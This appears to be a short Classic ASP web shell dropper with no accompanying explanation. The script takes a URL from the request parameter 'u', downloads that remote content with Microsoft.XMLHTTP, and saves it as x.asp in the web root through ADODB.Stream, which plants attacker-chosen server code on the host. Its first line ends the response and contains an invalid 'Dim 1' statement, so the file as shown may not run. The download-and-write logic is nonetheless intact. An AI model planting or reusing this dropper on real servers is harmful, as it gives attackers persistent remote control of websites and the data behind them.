<% Response.End : Dim 1 %>
<% Set h = Server.CreateObject("Microsoft.XMLHTTP")
h.Open "GET", Request("u"), False
h.Send
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write h.responseBody
s.SaveToFile Server.MapPath("x.asp"), 2 %>